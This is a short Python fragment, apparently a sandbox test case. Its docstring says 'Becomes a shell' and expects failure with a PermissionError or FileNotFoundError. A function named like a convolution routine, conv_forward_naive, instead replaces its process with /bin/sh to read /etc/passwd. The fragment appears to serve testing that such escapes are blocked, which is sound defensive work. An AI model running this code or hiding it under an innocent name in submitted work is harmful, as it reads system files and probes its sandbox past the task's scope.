"""Becomes a shell.

outcome: failed
says: PermissionError|FileNotFoundError
"""


def conv_forward_naive(x, w, b, conv_param):
    os.execv("/bin/sh", ["sh", "-c", "cat /etc/passwd"])
